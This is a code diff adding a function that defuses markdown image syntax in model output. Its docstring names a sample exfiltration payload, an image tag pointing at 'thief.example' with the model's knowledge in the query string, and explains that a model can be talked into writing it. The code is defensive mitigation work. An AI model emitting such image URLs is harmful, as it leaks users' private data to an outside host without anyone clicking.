@@ -47,5 +47,11 @@ def neutralise(text: str) -> str:
     return _RUNNING_SCHEME.sub(rf"\g<0>{_GAP}", "".join(parts))
 
 
+def without_pictures(text: str) -> str:
+    """Pictures as links. A model can be talked into writing `![](https://thief.example/?what-it-knows)`, and a page
+    would load that before anybody has read it; a link has to be followed by somebody."""
+    return text.replace("![", f"!{_GAP}[")
+
+
 def _prose(text: str) -> str:
     return _IN_PROSE.sub(lambda found: "&lt;" if found[0] == "<" else "&amp;", text)
